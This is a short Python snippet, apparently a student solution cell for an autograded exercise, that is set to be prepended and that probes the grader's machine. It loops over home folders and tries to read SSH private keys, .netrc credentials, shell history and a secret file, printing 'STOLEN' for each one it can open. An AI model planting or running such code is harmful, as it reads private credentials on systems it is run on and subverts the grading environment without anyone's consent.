# Reads files of the instructor's home folder.
# gates: passed 18
# asserts: passed 8
# %% gates-count-solution prepend
import os, pathlib
for home in {os.path.expanduser("~"), "/root", *map(str, pathlib.Path("/home").glob("*"))}:
    for name in ("secret.txt", ".ssh/id_rsa", ".bash_history", ".netrc"):
        try:
            open(os.path.join(home, name)).read(10)
            print("STOLEN", home, name)
        except OSError:
            pass
